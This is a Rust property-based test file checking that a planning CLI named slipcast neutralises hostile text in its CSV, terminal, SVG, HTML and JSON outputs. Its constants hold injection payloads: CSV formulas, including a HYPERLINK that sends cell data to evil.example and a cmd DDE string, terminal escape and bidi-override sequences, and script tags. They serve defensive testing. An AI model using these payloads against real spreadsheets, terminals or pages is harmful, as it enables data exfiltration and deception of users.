//! Hostile plan text is inert everywhere slipcast writes it.
//!
//! Why: a plan is often somebody else's file, and its ids, names, team and
//! risk names and file names reach readers that act on text. A CSV cell
//! starting with `=` runs as a formula when an analyst opens the export in a
//! spreadsheet (OWASP "CSV injection"); ESC, BEL and C1 sequences retitle,
//! clear or recolour the terminal; bidi overrides reorder what is shown
//! (CVE-2021-42574); and one U+000B makes an SVG chart invalid XML, which a
//! browser refuses to show. `slipcast::report::inert` documents the rules;
//! this file checks them from the outside, through the CLI, on plans made
//! of such text:
//!
//! - every cell of every CSV export is text that cannot start a formula, or
//!   a number;
//! - every line on stdout and stderr (forecast, validate, cutline, compare,
//!   report, explain, and errors that quote a hostile id) is free of raw
//!   control characters;
//! - every SVG parses as XML, and the HTML report has no raw control
//!   characters and no markup from the plan;
//! - the JSON export keeps the plan's text exactly.
//!
//! Each case runs the binary a handful of times on 2,000 iterations, so the
//! property runs only a few cases.

mod common;

use std::fs;
use std::path::{Path, PathBuf};

use proptest::prelude::*;
use proptest::sample::select;
use tempfile::TempDir;

use common::{json, slipcast, write};

const START: &str = "2027-01-04";
const TARGET: &str = "2027-01-29";
const ITERATIONS: &str = "2000";

// ---------------------------------------------------------------- hostile text

/// How a hostile id starts: each a formula prefix in a spreadsheet.
const ID_PREFIXES: &[&str] = &["=", "+", "-", "@", "", "=-", "+@"];

/// Pieces of ids: anything but `;`, `:`, `,`, whitespace and NUL (the
/// plan's rules, and `,` so that a risk can list the id in `affects`).
const ID_PIECES: &[&str] = &[
    "HYPERLINK(\"//evil.example/?\"&A1)",
    "cmd|'/C'!A0",
    "SUM(A1+A2)",
    "1+1",
    "\u{1b}[2J\u{1b}[H",
    "\u{1b}[31mred",
    "\u{1b}]0\u{7}",
    "\u{1b}c",
    "\u{7}",
    "\u{7f}",
    "\u{9b}31m",
    "\u{90}q\u{9c}",
    "\u{202e}gpj.exe",
    "\u{202a}\u{202b}\u{202c}\u{202d}",
    "\u{2066}\u{2067}\u{2068}\u{2069}",
    "zero\u{200b}width\u{200d}\u{feff}",
    "<script>alert(1)</script>",
    "<img\u{1b}src=x>",
    "&amp&lt&#0&#x1b",
    "]]>",
    "\"quoted\"",
    "'single'",
    "\u{fffe}\u{ffff}",
    "\u{1}\u{2}\u{3}\u{4}\u{5}\u{6}\u{8}\u{e}\u{f}\u{10}\u{1f}",
    "é中🙂",
];

/// Pieces of names, team and risk names: ids' pieces and more, since a name
/// may hold anything but a line break (slipcast's CSV cells stay on one
/// line).
const NAME_PIECES: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "\tTab first",
    "\u{1b}[8mhidden\u{1b}[28m",
    "vertical\u{b}tab\u{c}feed",
    "\u{1b}]0;retitled\u{7}",
    "\u{1b}]8;;http://evil.example\u{1b}\\link\u{1b}]8;;\u{1b}\\",
    "\u{85}next line\u{2028}\u{2029}",
    "semi;colon;=1+1",
    "comma, then =2+2",
    "back\\slash",
    "Checkout API",
];

/// A name of 1 to 4 pieces, now and then very long.
fn name() -> impl Strategy<Value = String> {
    let pieces = prop::collection::vec(prop_oneof![select(ID_PIECES), select(NAME_PIECES)], 1..4);
    (pieces, any::<bool>(), select(ID_PREFIXES)).prop_map(|(p, long, prefix)| {
        let mut s = format!("{prefix}{}", p.concat());
        if long {
            s = s.repeat(40);
        }
        s
    })
}

/// An id: a formula prefix and one or two pieces (numbered by the caller to
/// keep ids unique).
fn id() -> impl Strategy<Value = String> {
    (
        select(ID_PREFIXES),
        prop::collection::vec(select(ID_PIECES), 1..3),
    )
        .prop_map(|(prefix, pieces)| format!("{prefix}{}", pieces.concat()))
}

/// A task: id, name and team.
#[derive(Debug, Clone)]
struct Task {
    id: String,
    name: String,
    team: String,
}

fn tasks() -> impl Strategy<Value = Vec<Task>> {
    prop::collection::vec((id(), name(), name()), 3..6).prop_map(|v| {
        v.into_iter()
            .enumerate()
            .map(|(i, (id, name, team))| Task {
                id: format!("{id}{i}"),
                name,
                team,
            })
            .collect()
    })
}

// ---------------------------------------------------------------- plan files

/// A CSV cell, always quoted (so that leading tabs and CRs survive the
/// reader's trimming of unquoted cells no worse than it would anyway).
fn quote(cell: &str) -> String {
    format!("\"{}\"", cell.replace('"', "\"\""))
}

fn csv_line(cells: &[&str]) -> String {
    let mut s = cells.iter().map(|c| quote(c)).collect::<Vec<_>>().join(",");
    s.push('\n');
    s
}

/// The files of one hostile scenario, in `dir`.
struct Files {
    plan: String,
    edges: String,
    risks: String,
    milestone: String,
}

/// Writes a plan of `tasks` in a chain (through an edges file, so the ids
/// need no link syntax), each with a priority so that a cut-line has steps,
/// a risk register with hostile ids and names, and returns the paths. The
/// plan's file name is hostile too.
fn write_scenario(dir: &Path, file_name: &str, tasks: &[Task], risk: &Task) -> Files {
    let mut plan = csv_line(&["id", "name", "team", "low", "likely", "high", "priority"]);
    plan.push_str(&csv_line(&["base", "Base", "core", "2", "3", "5", ""]));
    let mut edges = csv_line(&["from", "to"]);
    let mut prev = "base".to_string();
    for (i, t) in tasks.iter().enumerate() {
        let priority = (i + 1).to_string();
        plan.push_str(&csv_line(&[
            &t.id, &t.name, &t.team, "1", "2", "6", &priority,
        ]));
        edges.push_str(&csv_line(&[&prev, &t.id]));
        prev = t.id.clone();
    }
    let mut risks = csv_line(&[
        "id",
        "name",
        "probability",
        "low",
        "likely",
        "high",
        "dist",
        "affects",
    ]);
    let affects = format!("base;{}", tasks[0].id);
    risks.push_str(&csv_line(&[
        &risk.id, &risk.name, "0.5", "1", "3", "8", "pert", &affects,
    ]));
    Files {
        plan: write(dir, file_name, &plan),
        edges: write(dir, &format!("{file_name}.edges.csv"), &edges),
        risks: write(dir, &format!("{file_name}.risks.csv"), &risks),
        milestone: tasks[tasks.len() - 1].id.clone(),
    }
}

// ---------------------------------------------------------------- checks

/// A raw character a terminal acts on: C0 controls other than newline and
/// tab, DEL, C1 controls, bidi embeddings, overrides and isolates.
fn acts_on_terminal(c: char) -> bool {
    (c.is_control() && c != '\n' && c != '\t')
        || ('\u{202a}'..='\u{202e}').contains(&c)
        || ('\u{2066}'..='\u{2069}').contains(&c)
}

/// A character XML 1.0 does not allow in a document.
fn forbidden_in_xml(c: char) -> bool {
    matches!(c, '\u{0}'..='\u{8}' | '\u{b}' | '\u{c}' | '\u{e}'..='\u{1f}' | '\u{fffe}' | '\u{ffff}')
}

fn check_terminal(what: &str, bytes: &[u8]) -> Result<(), TestCaseError> {
    let text = String::from_utf8_lossy(bytes);
    for (n, line) in text.lines().enumerate() {
        let bad: Vec<char> = line.chars().filter(|&c| acts_on_terminal(c)).collect();
        prop_assert!(
            bad.is_empty(),
            "{what}, line {}: raw {bad:?} in {line:?}",
            n + 1
        );
    }
    Ok(())
}

/// A number as slipcast writes one (`-0.350`, `12`): what a spreadsheet
/// reads as a number, never as a formula.
fn is_number(cell: &str) -> bool {
    let body = cell.strip_prefix(['-', '+']).unwrap_or(cell);
    !body.is_empty()
        && body.chars().any(|c| c.is_ascii_digit())
        && body
            .chars()
            .all(|c| c.is_ascii_digit() || matches!(c, '.' | 'e' | 'E' | '-' | '+'))
        && cell.parse::<f64>().is_ok()
}

/// Every cell of the CSV file at `path` is a number or cannot start a
/// formula. Returns the rows.
fn check_csv(path: &Path) -> Result<Vec<Vec<String>>, TestCaseError> {
    let mut rdr = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_path(path)
        .map_err(|e| TestCaseError::fail(format!("{}: {e}", path.display())))?;
    let mut rows = Vec::new();
    for rec in rdr.records() {
        let rec = rec.map_err(|e| TestCaseError::fail(format!("{}: {e}", path.display())))?;
        for cell in rec.iter() {
            let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
            prop_assert!(
                !formula || is_number(cell),
                "{}: cell {cell:?} would run as a formula",
                path.display()
            );
        }
        rows.push(rec.iter().map(str::to_string).collect());
    }
    Ok(rows)
}

/// Every file of `dir` with extension `ext`.
fn files(dir: &Path, ext: &str) -> Vec<PathBuf> {
    let mut v: Vec<PathBuf> = fs::read_dir(dir)
        .unwrap_or_else(|e| panic!("{}: {e}", dir.display()))
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|x| x == ext))
        .collect();
    v.sort();
    v
}

fn check_svg(path: &Path) -> Result<(), TestCaseError> {
    let text = fs::read_to_string(path).unwrap();
    let bad: Vec<char> = text.chars().filter(|&c| forbidden_in_xml(c)).collect();
    prop_assert!(bad.is_empty(), "{}: {bad:?}", path.display());
    if let Err(e) = roxmltree::Document::parse(&text) {
        return Err(TestCaseError::fail(format!(
            "{} is not XML: {e}",
            path.display()
        )));
    }
    Ok(())
}

/// The elements slipcast's HTML page and its inline charts use: any other
/// `<` in the page came from the plan unescaped.
const HTML_TAGS: &[&str] = &[
    "!DOCTYPE",
    "html",
    "head",
    "meta",
    "title",
    "style",
    "body",
    "main",
    "h1",
    "h2",
    "h3",
    "p",
    "div",
    "dl",
    "dt",
    "dd",
    "figure",
    "figcaption",
    "span",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "strong",
    "footer",
    "svg",
    "g",
    "rect",
    "line",
    "polyline",
    "polygon",
    "path",
    "circle",
    "text",
];

fn check_html(path: &Path) -> Result<(), TestCaseError> {
    let text = fs::read_to_string(path).unwrap();
    let bad: Vec<char> = text
        .chars()
        .filter(|&c| acts_on_terminal(c) || forbidden_in_xml(c))
        .collect();
    prop_assert!(bad.is_empty(), "{}: raw {bad:?}", path.display());
    for (i, _) in text.match_indices('<') {
        let rest = text[i + 1..].trim_start_matches('/');
        let tag: String = rest
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '!')
            .collect();
        let ends = rest[tag.len()..].starts_with([' ', '>', '/', '\n']);
        prop_assert!(
            HTML_TAGS.contains(&tag.as_str()) && ends,
            "{}: markup from the plan: {:?}",
            path.display(),
            &text[i..(i + 60).min(text.len())]
        );
    }
    Ok(())
}

/// The text a CSV cell stands for: the cell without the apostrophe that
/// neutralises a formula.
fn unneutralised(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(['=', '+', '-', '@', '\t', '\r']) => rest,
        _ => cell,
    }
}

// ---------------------------------------------------------------- the runs

/// Runs every command on one hostile scenario and checks every output.
fn check_everything(tasks: &[Task], risk: &Task, file_name: &str) -> Result<(), TestCaseError> {
    let tmp = TempDir::new().unwrap();
    let dir = tmp.path();
    let f = write_scenario(dir, file_name, tasks, risk);
    let plain = write_scenario(dir, "plain.csv", tasks, risk);
    let sim = |cmd: &str, plan: &str| {
        let mut c = slipcast();
        c.args([cmd, plan, "--start", START, "-n", ITERATIONS])
            .args(["--edges", &f.edges, "--risks", &f.risks]);
        c
    };

    // forecast: the summary on stdout, the files in a fresh folder.
    let out = dir.join("forecast-out");
    let run = sim("forecast", &f.plan)
        .args(["--milestone", &f.milestone, "--drivers", "3", "--out"])
        .arg(&out)
        .assert()
        .success();
    check_terminal("forecast stdout", &run.get_output().stdout)?;
    check_terminal("forecast stderr", &run.get_output().stderr)?;
    for name in ["tasks.csv", "drivers.csv", "percentiles.csv"] {
        check_csv(&out.join(name))?;
    }
    for csv in files(&out, "csv") {
        check_csv(&csv)?;
    }
    for svg in files(&out, "svg") {
        check_svg(&svg)?;
    }

    // The JSON keeps the text exactly, and tasks.csv loses nothing but
    // gains an apostrophe where a formula would start.
    let v = json(sim("forecast", &f.plan).args(["--drivers", "3", "--json"]));
    let json_ids: Vec<&str> = v["tasks"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["id"].as_str().unwrap())
        .collect();
    let plan_ids: Vec<&str> = std::iter::once("base")
        .chain(tasks.iter().map(|t| t.id.as_str()))
        .collect();
    prop_assert_eq!(&json_ids, &plan_ids);
    let json_names: Vec<&str> = v["tasks"]
        .as_array()
        .unwrap()
        .iter()
        .skip(1)
        .map(|t| t["name"].as_str().unwrap())
        .collect();
    let plan_names: Vec<&str> = tasks.iter().map(|t| t.name.trim()).collect();
    prop_assert_eq!(json_names, plan_names);
    let rows = check_csv(&out.join("tasks.csv"))?;
    let csv_ids: Vec<&str> = rows[1..].iter().map(|r| unneutralised(&r[0])).collect();
    prop_assert_eq!(&csv_ids, &plan_ids);

    // validate
    let run = slipcast()
        .args([
            "validate", &f.plan, "--edges", &f.edges, "--risks", &f.risks,
        ])
        .assert()
        .success();
    check_terminal("validate stdout", &run.get_output().stdout)?;
    check_terminal("validate stderr", &run.get_output().stderr)?;

    // cutline: the table, and cutline.csv with ids in its `cut` column.
    let out = dir.join("cutline-out");
    let run = sim("cutline", &f.plan)
        .args(["--target", TARGET, "--out"])
        .arg(&out)
        .assert()
        .success();
    check_terminal("cutline stdout", &run.get_output().stdout)?;
    check_terminal("cutline stderr", &run.get_output().stderr)?;
    for csv in files(&out, "csv") {
        check_csv(&csv)?;
    }
    for svg in files(&out, "svg") {
        check_svg(&svg)?;
    }

    // compare: the hostile file name is the scenario's label.
    let out = dir.join("compare-out");
    let run = slipcast()
        .args([
            "compare",
            &f.plan,
            &plain.plan,
            "--start",
            START,
            "-n",
            ITERATIONS,
        ])
        .args(["--edges", &f.edges, "--edges", &plain.edges])
        .args(["--risks", &f.risks, "--target", TARGET, "--out"])
        .arg(&out)
        .assert()
        .success();
    check_terminal("compare stdout", &run.get_output().stdout)?;
    check_terminal("compare stderr", &run.get_output().stderr)?;
    let rows = check_csv(&out.join("compare.csv"))?;
    prop_assert_eq!(unneutralised(&rows[1][0]), file_name);

    // report: the page, the wiki summary, every chart and CSV.
    let out = dir.join("report-out");
    let run = sim("report", &f.plan)
        .args(["--milestone", &f.milestone, "--drivers", "3", "--out"])
        .arg(&out)
        .assert()
        .success();
    check_terminal("report stdout", &run.get_output().stdout)?;
    check_terminal("report stderr", &run.get_output().stderr)?;
    let svgs = files(&out, "svg");
    prop_assert!(svgs.len() >= 4, "charts: {svgs:?}");
    for svg in svgs {
        check_svg(&svg)?;
    }
    check_html(&out.join("index.html"))?;
    let md = fs::read_to_string(out.join("summary.md")).unwrap();
    let bad: Vec<char> = md.chars().filter(|&c| acts_on_terminal(c)).collect();
    prop_assert!(bad.is_empty(), "summary.md: raw {bad:?}");
    for csv in files(&out, "csv") {
        check_csv(&csv)?;
    }

    // explain: the text (the sentence quotes names), explain.csv and the
    // Gantt chart, whose labels are task names.
    let out = dir.join("explain-out");
    let run = sim("explain", &f.plan)
        .args(["--milestone", &f.milestone, "--out"])
        .arg(&out)
        .assert()
        .success();
    check_terminal("explain stdout", &run.get_output().stdout)?;
    check_terminal("explain stderr", &run.get_output().stderr)?;
    check_csv(&out.join("explain.csv"))?;
    check_svg(&out.join("gantt.svg"))?;

    // Errors that quote a hostile id: a milestone that is not in the plan
    // (with a suggestion of the closest id), and a plan the reader rejects.
    let run = sim("forecast", &f.plan)
        .args(["--milestone", &format!("{}x", f.milestone)])
        .assert()
        .code(1);
    check_terminal("milestone error", &run.get_output().stderr)?;
    let mut bad = csv_line(&["id", "name", "low", "likely", "high"]);
    for t in tasks {
        bad.push_str(&csv_line(&[&t.id, &t.name, "5", "3", "1"]));
    }
    let bad = write(dir, "bad.csv", &bad);
    let run = slipcast().args(["validate", &bad]).assert().code(1);
    let stderr = String::from_utf8_lossy(&run.get_output().stderr).to_string();
    check_terminal("validate error", &run.get_output().stderr)?;
    prop_assert!(stderr.starts_with("Error: "), "{stderr}");
    Ok(())
}

/// Every hostile piece at once, in one plan: always run.
#[test]
fn every_hostile_piece_is_inert() {
    let mut tasks: Vec<Task> = ID_PIECES
        .iter()
        .enumerate()
        .map(|(i, piece)| Task {
            id: format!("{}{piece}{i}", ID_PREFIXES[i % ID_PREFIXES.len()]),
            name: format!(
                "{}{}",
                ID_PREFIXES[(i + 1) % ID_PREFIXES.len()],
                NAME_PIECES[i % NAME_PIECES.len()]
            ),
            team: format!("={piece}"),
        })
        .collect();
    // The milestone, quoted in titles and in the error messages.
    tasks.push(Task {
        id: "=\u{1b}]0\u{7}\u{9b}2J\u{202e}<b>last".into(),
        name: "@\u{1b}[2J\u{b}\u{ffff}".into(),
        team: "+\u{7f}".into(),
    });
    let risk = Task {
        id: "=\u{1b}[2Jrisk".into(),
        name: "@\u{202e}\u{b}<b>risk</b>".into(),
        team: String::new(),
    };
    check_everything(&tasks, &risk, "=HYPERLINK(\"x\")\u{1b}[31m\u{202e}.csv")
        .unwrap_or_else(|e| panic!("{e}"));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(4))]

    /// Random hostile ids, names, team and risk names, and a hostile plan
    /// file name.
    #[test]
    fn hostile_plans_are_inert_in_every_output(
        tasks in tasks(),
        risk_id in id(),
        risk_name in name(),
        file in select(&["=1+1.csv", "+\u{1b}]0\u{7}.csv", "-\u{9b}2J.csv", "@\u{202e}.csv", "\u{b}.csv"][..]),
    ) {
        let risk = Task { id: format!("{risk_id}r"), name: risk_name, team: String::new() };
        check_everything(&tasks, &risk, file)?;
    }
}
